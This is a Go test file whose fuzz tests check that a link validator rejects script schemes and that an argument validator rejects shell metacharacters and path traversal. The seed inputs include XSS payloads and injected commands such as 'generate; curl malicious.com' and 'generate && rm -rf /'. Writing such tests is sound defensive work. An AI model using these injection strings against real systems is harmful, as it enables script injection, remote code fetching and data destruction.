package validation

import (
	"strings"
	"testing"
)

// FuzzCheckLink checks that accepted links never carry a script scheme.
func FuzzCheckLink(f *testing.F) {
	f.Add("https://example.com")
	f.Add("javascript:alert('xss')")
	f.Add("JAVASCRIPT:alert('xss')")
	f.Add("java\x00script:alert('xss')")
	f.Add("data:text/html,<script>alert('xss')</script>")
	f.Add("vbscript:MsgBox('xss')")
	f.Add("../relative/page")
	f.Add("#anchor")
	f.Add("")

	f.Fuzz(func(t *testing.T, target string) {
		if len(target) > 4096 {
			t.Skip("target too long")
		}

		problem, err := CheckLink(target)
		if (problem == LinkOK) != (err == nil) {
			t.Fatalf("problem %d does not agree with error %v for %q", problem, err, target)
		}
		if problem != LinkOK {
			return
		}

		compact := strings.Map(func(r rune) rune {
			if r <= ' ' {
				return -1
			}
			return r
		}, strings.ToLower(target))
		for _, scheme := range []string{"javascript:", "vbscript:", "data:text/html"} {
			if strings.HasPrefix(compact, scheme) {
				t.Errorf("CheckLink accepted %q", target)
			}
		}
	})
}

// FuzzValidateArgument checks that accepted arguments carry no shell
// metacharacters.
func FuzzValidateArgument(f *testing.F) {
	f.Add("generate")
	f.Add("--scope=full")
	f.Add("generate; curl malicious.com")
	f.Add("generate && rm -rf /")
	f.Add("$(id)")
	f.Add("`whoami`")
	f.Add("../../etc/passwd")

	f.Fuzz(func(t *testing.T, arg string) {
		if ValidateArgument(arg) != nil {
			return
		}
		if strings.ContainsAny(arg, ";&|$`()<>\\\"'\n\r") {
			t.Errorf("ValidateArgument accepted metacharacters in %q", arg)
		}
		if strings.Contains(arg, "..") {
			t.Errorf("ValidateArgument accepted traversal in %q", arg)
		}
	})
}
